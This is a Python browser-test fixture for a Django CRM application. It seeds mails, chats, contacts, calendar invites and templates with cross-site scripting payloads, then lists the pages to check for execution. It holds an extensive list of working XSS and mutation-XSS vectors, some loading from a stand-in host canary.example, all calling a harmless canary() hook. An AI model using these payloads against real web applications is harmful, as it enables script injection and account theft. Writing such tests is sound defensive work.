"""Lays out a house whose clients write script wherever a mail, a chat or a page of ours can hold words.

    RAPPORT_DATA_DIR=… python -m tests.browser.hostile      prints, as JSON, which pages show what came in

Everything comes in through the doors that real mail and real files use. `script("subject")` is the script that stands
in the subject; when it runs, it calls `canary("subject")`.
"""

from __future__ import annotations

import io
import json
import os
import sys
from datetime import timedelta
from email.message import EmailMessage
from typing import Any

HTML = (
    "<p>Hello, when can we talk?</p>",
    "<script>canary('html script')</script>",
    "<SCRIPT SRC=//canary.example/html.js></SCRIPT>",
    "<script src='https://canary.example/html.js'></script>",
    "<img src=x onerror=\"canary('img onerror')\">",
    "<img src=x onerror=canary`img`>",
    "<body onload=canary('body')>",
    "<svg onload=canary('svg onload')>",
    "<svg><script>canary('svg script')</script></svg>",
    "<svg><script href='https://canary.example/svg.js'/></svg>",
    "<svg><animate onbegin=canary('svg animate') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:canary('svg link')\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='canary(1)'/></svg>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.canary('foreign')</script>\"></iframe></foreignObject></svg>",
    "<math href=\"javascript:canary('math')\">x</math>",
    "<math><maction actiontype='statusline#http://canary.example' xlink:href=\"javascript:canary('math')\">x",
    "<iframe src=\"javascript:parent.canary('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\"></iframe>",
    "<iframe src='https://canary.example/frame'></iframe>",
    "<iframe src='cid:page'></iframe><object data='cid:page'></object><embed src='cid:page'>",
    "<object data=\"data:text/html,<script>parent.canary('object')</script>\"></object>",
    "<embed src=\"data:text/html,<script>parent.canary('embed')</script>\">",
    "<a id=link href=\"javascript:canary('link')\">x</a>",
    "<a href=\" jAvA&#9;sCrIpT:canary('riddled link')\">x</a>",
    "<a href='vbscript:canary(1)'>x</a>",
    "<a href=\"data:text/html,<script>canary('data link')</script>\">x</a>",
    "<base href='https://canary.example/'>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/refresh'>",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>canary('refresh')</script>\">",
    "<link rel=stylesheet href='https://canary.example/link.css'>",
    "<link rel=prefetch href='https://canary.example/prefetch'>",
    "<style>@import url(https://canary.example/import.css);body{background:url(https://canary.example/body.png)}"
    "*{width:expression(canary('expression'))}</style>",
    "<div style=\"background:url('https://canary.example/style.png');width:expression(canary('style'))\">x</div>",
    "<div style='background:u\\72l(https://canary.example/riddle.png);-moz-binding:url(//canary.example/x#x)'>x</div>",
    "<table background='https://canary.example/table.png'><tr><td background='https://canary.example/td.png'>x</table>",
    "<form action='https://canary.example/form'><input name=password autofocus onfocus=canary('focus')>"
    "<button formaction=\"javascript:canary('formaction')\">Go</button></form>",
    "<video src=x onerror=canary('video')></video><audio src='https://canary.example/a.mp3' autoplay></audio>",
    "<video poster='https://canary.example/poster.png'><source onerror=canary('source')></video>",
    "<picture><source srcset='https://canary.example/set.png'><img srcset='https://canary.example/set.png'></picture>",
    "<details open ontoggle=canary('toggle')>x</details>",
    "<marquee onstart=canary('marquee')>x</marquee>",
    "<p onpointerenter=canary('pointer') onmouseover=canary('mouse') style='position:fixed;inset:0'>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=canary('noscript')>\"></noscript>",
    "<noscript><noscript><img src=x onerror=canary('nested')></noscript><p title='</noscript><svg/onload=canary(2)>'>",
    "<![CDATA[<img src=x onerror=canary('cdata')>]]>",
    "<svg><![CDATA[><img src=x onerror=canary('svg cdata')>]]></svg>",
    "<scr\0ipt>canary('null')</scr\0ipt><img src=x on\0error=canary('null')><a href='java\0script:canary(3)'>x</a>",
    "<template><script>canary('template')</script><img src=x onerror=canary('template')></template>",
    "<template shadowrootmode=open><img src=x onerror=canary('shadow')></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary('mxss 1')&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=canary('mxss 2')>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary('mxss 3')>",
    "<math><mi><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=canary('mxss 4') src>\">",
    "<table><td><svg><desc><style><!--</style><a title=\"--><img src=x onerror=canary('mxss 5')>\">",
    '<xmp><p title="</xmp><img src=x onerror=canary(\'xmp\')>"></xmp><plaintext id="<img src=x onerror=canary(4)>">',
    "<!--><img src=x onerror=canary('comment')>--><!--!><img src=x onerror=canary('bang')>-->",
    "<textarea></textarea><img src=x onerror=canary('textarea')><title></title><img src=x onerror=canary('title')>",
    "<p title='\"><img src=x onerror=canary(5)>'>x</p><<script>script>canary('doubled')<</script>/script>",
    "<img src='cid:drawing'><img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>'>",
    "<img src='https://canary.example/seen.png'>",
)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"canary('svg file')\"><script>canary('svg file')</script></svg>"
PAGE = b"<html><body onload=\"canary('html file')\"><script>parent.canary('html file')</script></body></html>"
Pages = list[str]


def script(place: str) -> str:
    """Words that run where they are taken for a page, in an attribute too, and stay words where they are not.

    >>> script("name")
    'x"><img src=x onerror=canary(\\'name\\')><script>canary(\\'name\\')</script>'
    """
    return f"x\"><img src=x onerror=canary('{place}')><script>canary('{place}')</script>"


def written(place: str) -> str:
    """The same for names of people, which are no longer than a line of an address book."""
    return f"\"><img src=x onerror=canary('{place}')>"


def mails() -> dict[str, bytes]:
    """One mail of each kind of becoming: kept in words, kept as a page, to be sorted, skipped."""
    return {
        "words": _in_words(),
        "page": _as_page(),
        "tray": _raw(
            "From: {name} <unknown@elsewhere.example>", "Cc: ivana@adria.example", "Subject: {subject}", place="tray"
        ),
        "stranger": _raw("From: {name} <stranger@elsewhere.example>", "Subject: {subject}", place="stranger"),
        "newsletter": _raw(
            "From: {name} <n@elsewhere.example>", "List-Id: {subject}", "Subject: {subject}", place="list"
        ),
        "away": _raw(
            "From: ivana@adria.example", "Subject: {subject}", "Auto-Submitted: auto-replied", place="away"
        ),
        "machine": _raw("From: <script>canary('from')</script>", "Subject: {subject}", place="from"),
    }  # fmt: skip


def lay_out() -> dict[str, Any]:
    """Everything, and the addresses that show it."""
    from tests import cast as casting

    from rapport.config.recurring import RECURRING
    from rapport.desk.seeding.mark import set_mark
    from rapport.journal import follow
    from rapport.portfolio.models import Channel, Client

    world = casting.make()
    Client.objects.filter(pk=world.adria.pk).update(name=f"Adria {script('client')}")
    world.adria.refresh_from_db()
    ivana = casting.contact(world.adria, f"Ivana {written('contact')}", written("last name"), job=script("job"))
    Channel.objects.create(contact=ivana, kind="mail", value="ivana@adria.example", folded="ivana@adria.example")
    pages, asked = _mail(world), _asked(world, ivana)
    for line in RECURRING:
        line.deed()
    follow.catch_up(limit=10_000)
    set_mark()
    return {**pages, "pages": [*pages["pages"], *asked], "member": world.luka.pk}


def _mail(world: Any) -> dict[str, Any]:
    from rapport.conversations.chats.drop import drop as drop_chats
    from rapport.conversations.mail.drop import drop
    from rapport.conversations.mail.models import Attachment, Folder, Mailbox, Message
    from rapport.conversations.mail.receive import Source, receive
    from rapport.journal import clock

    box = Mailbox.objects.create(
        member=world.luka, address="luka@kordun.example", host="127.0.0.1", port=1, user="luka", security="none",
        try_at=clock.now() + timedelta(days=9),
    )  # fmt: skip
    Folder.objects.create(mailbox=box, name=written("folder"), uidvalidity=1)
    became = {}
    for uid, (name, raw) in enumerate(mails().items(), start=1):
        became[name] = receive(raw, Source(written("folder"), uid, mailbox=box, uidvalidity=1)).outcome
    dropped = drop(io.BytesIO(mails()["page"]), name=f"{written('dropped')}.eml", by=world.luka)
    said = f"[03/04/2026, 09:01:12] {written('chat name')}: {script('chat')}\n"
    said += f"[03/04/2026, 09:02:12] Luka Perko: {script('chat')}\n"
    chats = drop_chats(io.BytesIO(said.encode()), name=f"{written('chat file')}.txt", by=world.luka, kind="whatsapp")
    lines = "Date,Time,Direction,Number,Name,Duration\n2026-04-03,09:12:00,Incoming,+385 91 234 5678,"
    lines += f"{written('call')[2:]},00:05:12\n"
    calls = drop_chats(io.BytesIO(lines.encode()), name=f"{written('calls')}.csv", by=world.luka, kind="calls")
    kept = list(Message.objects.filter(state="kept").values_list("pk", "thread"))
    return {
        "became": became,
        "frames": [pk for pk, _thread in kept],
        "attachments": list(Attachment.objects.values_list("pk", flat=True)),
        "pages": [
            "/mail/", "/tray/", "/mailboxes/", f"/mailboxes/{box.pk}/", f"/mailboxes/{box.pk}/change/",
            f"/mailboxes/files/{dropped.pk}/",
            *(f"/mail/threads/{thread}/" for thread in dict.fromkeys(thread for _pk, thread in kept)),
            *(f"/mail/threads/{thread}/?images={pk}" for pk, thread in kept),
            *(f"/mail/messages/{pk}/reply/?all=1" for pk, _thread in kept[:2]),
            *(f"/chats/{file.pk}/" for file in (chats, calls)),
        ],
    }  # fmt: skip


def _asked(world: Any, ivana: Any) -> Pages:
    """What people of ours make of such words, and the page a contact opens by link."""
    from rapport.catalogue.models import Service
    from rapport.conversations.mail.keep_template import keep_template
    from rapport.conversations.mail.models import Message, Template
    from rapport.conversations.meetings.hold import hold
    from rapport.conversations.meetings.plan import plan
    from rapport.conversations.meetings.take_minutes import write as minute
    from rapport.conversations.news.write import write as write_news
    from rapport.conversations.promises.make import make
    from rapport.conversations.questions.ask import ask
    from rapport.conversations.understandings.send import send
    from rapport.conversations.understandings.source import source_words
    from rapport.conversations.understandings.write import write
    from rapport.journal import clock
    from rapport.portfolio.access import client_for

    luka, adria = world.luka, client_for(world.luka, world.adria.pk, "mail.write")
    message = Message.objects.filter(client=adria, has_html=False).order_by("pk")[0]
    promise = make(adria, by=luka, by_us=True, what=script("promise"), member=luka, contact=ivana,
                   due=clock.today() - timedelta(days=3), words=script("words"))  # fmt: skip
    theirs = make(adria, by=luka, by_us=False, what=script("promised"), contact=ivana, due=clock.today())
    question = ask(adria, by=luka, of=world.tin, text=script("question"), words=script("asked"), message=message,
                   knowing=True)  # fmt: skip
    local = clock.now().replace(tzinfo=None) - timedelta(hours=5)
    meeting = plan(by=luka, local=local, zone="Europe/Zagreb", client=adria, title=script("meeting"),
                   place=script("place"), about=script("about"), contacts=[ivana])  # fmt: skip
    for sign in ("", "promise", "action", "decision"):
        minute(meeting, by=luka, text=script("minute"), becomes=sign)
    hold(meeting, by=luka)
    template = keep_template(Template(), by=luka, name=script("template"), text=script("text") + " {first_name}",
                             subject=script("template"))  # fmt: skip
    news = write_news(by=luka, kind="platform", title=script("news"), text=script("news"), source=script("source"),
                      services=list(Service.objects.all()[:1]))  # fmt: skip
    source = source_words(luka, "message", message.pk)
    reading = write(source, by=luka, contact=ivana, words=" ".join(source.text.split())[:60], reading=script("reading"))
    reading.client = adria
    reading, link = send(reading, by=luka)
    of = f"/clients/{adria.pk}"
    word = message.touchpoint_id
    return [
        "/today/", "/today/tomorrow/", "/today/done/", "/today/changes/", "/today/digest/", "/clients/", f"{of}/",
        f"{of}/story/", f"{of}/promises/", f"{of}/meetings/", f"{of}/people/", f"{of}/people/{ivana.pk}/",
        f"{of}/people/{ivana.pk}/change/", f"{of}/understandings/", f"{of}/links/", f"{of}/touchpoints/", f"{of}/mail/",
        f"/promises/{promise.pk}/", f"/promises/{theirs.pk}/", "/questions/", f"/questions/{question.pk}/",
        f"/touchpoints/{word}/", f"/touchpoints/{word}/history/", "/meetings/", f"/meetings/{meeting.pk}/",
        f"/meetings/{meeting.pk}/change/",
        "/mail/templates/", f"/mail/templates/{template.pk}/", "/news/", f"/news/{news.pk}/",
        f"/understandings/{reading.pk}/", f"/approvals/{reading.approval_id}/", "/search/?q=adria", "/search/?q=ivana",
        "/search/?q=script", "/touchpoints/new/", "/c/" + link.partition("/c/")[2],
    ]  # fmt: skip


def _in_words() -> bytes:
    head = [
        f"From: =?utf-8?Q?{_q(script('sender'))}?= <ivana@adria.example>",
        f"To: =?utf-8?Q?{_q(script('recipient'))}?= <luka@kordun.example>",
        f'Cc: "{script("copy").replace(chr(34), chr(39))}" <ante@adria.example>',
        f"Subject: {script('subject')}",
        "Message-ID: <\"><script>canary('id')</script>@adria.example>",
        f"X-Mailer: {script('mailer')}",
        f'Content-Type: multipart/mixed; boundary=b; charset="{written("charset")}"',
    ]
    words = (
        f"URGENT, the site is down! Can you {script('asked')} send it? I will send you {script('offer')} tomorrow.\n\n"
    )
    words += f"> {script('quoted')}\n\n-- \n{script('signature')}\n"
    calendar = "\r\n".join([
        "BEGIN:VCALENDAR", "METHOD:REQUEST", "BEGIN:VEVENT", "UID:1", "DTSTART:20261201T090000Z",
        f"SUMMARY:{script('ics summary')}", f"DESCRIPTION:<svg onload=canary('ics')>{script('ics description')}",
        f"LOCATION:{script('ics location')}",
        f"ORGANIZER;CN=\"{written('ics organizer')[2:]}\":mailto:ivana@adria.example",
        f"ATTENDEE;CN=\"{written('ics attendee')[2:]}\":mailto:luka@kordun.example",
        f"X-ALT-DESC;FMTTYPE=text/html:{script('ics page')}", "END:VEVENT", "END:VCALENDAR", "",
    ])  # fmt: skip
    card = f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{script('vcard')}\r\nN:{script('vcard')};;;;\r\nEND:VCARD\r\n"
    parts = [
        ("text/plain; charset=utf-8", "", words.encode()),
        ("image/svg+xml", f"{script('file')}.svg", SVG),
        ("text/html", "page.html", PAGE),
        (f"text/html; name=\"{written('kind')}\"; x=<script>canary('type')</script>", "page.xhtml", PAGE),
        ("text/calendar; method=REQUEST", "invite.ics", calendar.encode()),
        ("text/vcard", "card.vcf", card.encode()),
        ("image/png", f"{written('png')}.png", SVG),  # a drawing that calls itself a picture
    ]
    return _joined("\n".join(head), parts)


def _as_page() -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "Ivana <ivana@adria.example>", "Luka <luka@kordun.example>"
    message["Subject"] = "Page " + script("page")
    message["Message-ID"] = "<page@adria.example>"
    message.set_content("".join(HTML), subtype="html")
    message.add_related(SVG, "image", "svg+xml", cid="<drawing>", filename="drawing.svg")
    message.add_related(PAGE, "text", "html", cid="<page>", filename="page.html")
    return message.as_bytes()


def _raw(*head: str, place: str) -> bytes:
    lines = [line.format(name=f'"{written(place)[2:]}"', subject=script(place)) for line in head]
    lines += [f"Message-ID: <{place}@elsewhere.example>", "To: luka@kordun.example", "", script(f"{place} words")]
    return "\n".join(lines).encode()


def _joined(head: str, parts: list[tuple[str, str, bytes]]) -> bytes:
    said = [head.encode(), b""]
    for kind, name, content in parts:
        said += [b"--b", f"Content-Type: {kind}".encode()]
        if name:
            said.append(f"Content-Disposition: attachment; filename*=utf-8''{_percent(name)}".encode())
        said += [b"", content]
    return b"\n".join([*said, b"--b--", b""])


def _q(words: str) -> str:
    return "".join(f"={byte:02X}" for byte in words.encode())


def _percent(words: str) -> str:
    return "".join(f"%{byte:02X}" for byte in words.encode())


if __name__ == "__main__":
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "rapport.config.settings")
    from rapport.config.first_use import prepare

    prepare("demo")
    sys.stdout.write(json.dumps(lay_out()))
